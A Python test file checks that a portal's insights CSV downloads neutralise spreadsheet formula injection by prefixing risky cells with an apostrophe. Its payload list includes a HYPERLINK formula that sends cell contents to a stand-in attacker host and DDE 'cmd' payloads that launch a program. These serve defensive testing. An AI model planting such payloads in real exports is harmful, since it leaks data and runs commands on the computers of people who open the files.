"""CSV formula-injection probes: searches and feedback comments that a spreadsheet would run
(=, +, -, @, tab, CR first) go through every CSV download of every insights page, found by
following the pages' own download links, and are read back: no cell starts a formula."""

import csv
import io
import re
from datetime import datetime
from html import unescape

from portal.extensions import db
from portal.insights.rollup import roll_up
from portal.insights.tables import FORMULA_STARTS, spreadsheet_safe
from portal.models import ArticleFeedback
from tests.portal.test_insights_rollup import at, search, view

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点此查看订单")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=退货 运费",
]
RANGE = {"start": "2026-10-01", "end": "2026-10-31"}
CSV_LINK = re.compile(r'href="([^"]*[?&]csv=[^"]*)"')


def test_cells_that_start_a_formula_get_an_apostrophe():
    assert [spreadsheet_safe(f) for f in FORMULAS] == ["'" + f for f in FORMULAS]
    assert spreadsheet_safe("退货") == "退货" and spreadsheet_safe(-3) == -3
    assert spreadsheet_safe(None) == "" and spreadsheet_safe(2.5) == 2.5


def _seed(make, article):
    """Each formula as a searched query (no result, and one that led to the article, every day
    for a week, so it is a need and a top query) and as a feedback comment."""
    for query in FORMULAS:
        for day in range(3, 10):
            search(at(day, 9), query, anon=f"v{day}", results=0)
            led = search(at(day, 10), query, anon=f"w{day}")
            view(at(day, 10, 1), article, anon=f"w{day}", search_id=led.id)
        db.session.add(
            ArticleFeedback(
                article_id=article.id,
                helpful=False,
                comment=query,
                anon_id=f"fb{FORMULAS.index(query)}",
                created_at=at(12, 9),
            )
        )
    db.session.commit()
    roll_up(until=datetime(2026, 11, 1))


def test_every_insights_csv_neutralises_formulas(app, client, make, clock):
    clock.current = datetime(2026, 11, 2, 9, 0)
    article = make.article(title="退货运费说明")
    _seed(make, article)
    client.login(make.user("editor"))
    pages = [
        rule.rule.replace("<int:article_id>", str(article.id))
        for rule in app.url_map.iter_rules()
        if rule.endpoint.startswith("insights.") and "GET" in rule.methods
    ]
    downloads, neutralised, failures = set(), 0, []
    for page in pages:
        html = client.get(page, query_string=RANGE).get_data(as_text=True)
        downloads |= {unescape(link) for link in CSV_LINK.findall(html)}
    assert len(downloads) >= 8, downloads
    for link in sorted(downloads):
        response = client.get(link)
        assert response.status_code == 200 and response.mimetype == "text/csv", link
        assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
        text = response.get_data(as_text=True).lstrip("\ufeff")
        for row in csv.reader(io.StringIO(text, newline="")):
            for cell in row:
                if cell.startswith(FORMULA_STARTS):
                    failures.append((link, cell))
                neutralised += cell.startswith("'") and cell[1:] in FORMULAS
    assert not failures, failures
    assert neutralised >= 3 * len(FORMULAS)  # the payloads did reach the exports
